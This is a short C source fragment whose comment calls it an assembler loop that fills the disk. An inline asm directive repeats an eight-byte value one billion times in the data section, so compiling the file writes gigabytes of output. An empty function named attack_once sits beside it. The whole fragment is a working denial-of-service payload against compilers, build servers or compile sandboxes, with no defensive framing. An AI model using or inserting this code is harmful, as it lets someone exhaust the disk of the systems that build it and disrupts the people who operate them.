// An assembler loop that fills the disk.
asm(".pushsection .data\n.rept 1000000000\n.quad 0x1122334455667788\n.endr\n.popsection");
static void attack_once() {}
